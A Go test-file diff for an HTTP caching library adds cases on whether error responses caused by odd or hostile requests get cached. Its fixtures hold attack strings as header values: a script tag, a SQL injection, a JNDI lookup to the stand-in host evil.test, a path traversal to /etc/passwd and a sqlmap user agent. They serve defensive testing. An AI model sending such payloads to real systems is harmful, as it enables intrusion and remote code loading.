@@ -1,6 +1,7 @@
 package httpcache
 
 import (
+	"fmt"
 	"net/http"
 	"strconv"
 	"strings"
@@ -148,6 +149,7 @@ func TestStoreByStatus(t *testing.T) {
 		406: StatusNotCacheable, 408: StatusNotCacheable, 411: StatusNotCacheable, 413: StatusNotCacheable, 415: StatusNotCacheable, 426: StatusNotCacheable,
 		407: StatusNotCacheable, 412: StatusNotCacheable, 416: StatusNotCacheable, 417: StatusNotCacheable, 425: StatusNotCacheable,
 		428: StatusNotCacheable, 429: StatusNotCacheable, 431: StatusNotCacheable, 511: StatusNotCacheable, // RFC 6585
+		401: StatusNotCacheable, 403: StatusNotCacheable, // RFC 9110 §15.5.2, §15.5.4: about who asks
 	}
 	p := DefaultPolicy()
 	for status := 100; status < 700; status++ {
@@ -348,6 +350,27 @@ func TestErrorsOfOddRequests(t *testing.T) {
 		{"CPDoS meta character", "X: \x07", 400, StatusNotCacheable},
 		{"CPDoS obs-text", "X: \u00e9", 404, StatusNotCacheable},
 		{"a tab is whitespace", "X: a\tb", 400, Storable},
+		{"CPDoS many small fields", manyFields(oddLines + 1), 400, StatusNotCacheable},
+		{"as many as a request may well have", manyFields(oddLines / 2), 400, Storable},
+		{"CPDoS a script", "X: <script>", 400, StatusNotCacheable},
+		{"CPDoS an injection", "User-Agent: ' or 1=1", 500, StatusNotCacheable},
+		{"CPDoS a look-up", "X-Api-Version: ${jndi:ldap://evil.test/a}", 500, StatusNotCacheable},
+		{"CPDoS a way up", "X: ../../etc/passwd", 404, StatusNotCacheable},
+		{"CPDoS an object store's parameter", "X-Amz-Server-Side-Encryption: x", 400, StatusNotCacheable},
+		{"what browsers send", "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0)\n" +
+			"Sec-Ch-Ua: \"Not/A)Brand\";v=\"99\", \"A (B) C=D?\";v=\"1\"\nReferer: https://a.test/b?c=d&e=%27#f\n" +
+			"If-None-Match: W/\"x\"\nSec-Fetch-Mode: navigate\nPriority: u=0, i\nAccept: text/html,*/*;q=0.8", 400, Storable},
+		{"9110-15.5.4 about who asks", "User-Agent: sqlmap", 403, StatusNotCacheable},
+		{"9110-15.5.2 about who asks", "", 401, StatusNotCacheable},
+		{"an error that a cookie may have made", "Cookie: a=b", 400, StatusNotCacheable},
+		{"a failure that a cookie may have made", "Cookie: a=b", 500, StatusNotCacheable},
+		{"9110-15.5.5 about the resource", "Cookie: a=b|c", 404, Storable},
+	}
+	for _, status := range []int{400, 401, 403, 500} {
+		x := getWith("Cookie: a=b", status, "Cache-Control: public, max-age=60")
+		if _, got := Store(x, &Policy{}); got != Storable {
+			t.Errorf("%d that is public: %v", status, got)
+		}
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -358,10 +381,18 @@ func TestErrorsOfOddRequests(t *testing.T) {
 	}
 }
 
+func manyFields(n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, "X%d: y\n", i)
+	}
+	return b.String()
+}
+
 // A class of statuses is not for those that are about who asks.
 func TestLifetimeOfAClass(t *testing.T) {
 	for status, want := range map[int]Reason{
-		400: NoLifetime, 401: NoLifetime, 403: NoLifetime, 402: Storable, 404: Storable, 409: Storable, 410: Storable, 451: Storable,
+		400: NoLifetime, 401: StatusNotCacheable, 403: StatusNotCacheable, 402: Storable, 404: Storable, 409: Storable, 410: Storable, 451: Storable,
 	} {
 		p := Policy{TTL: []Lifetime{{[]int{4}, time.Minute}}}
 		if _, got := Store(get(status, ""), &p); got != want {
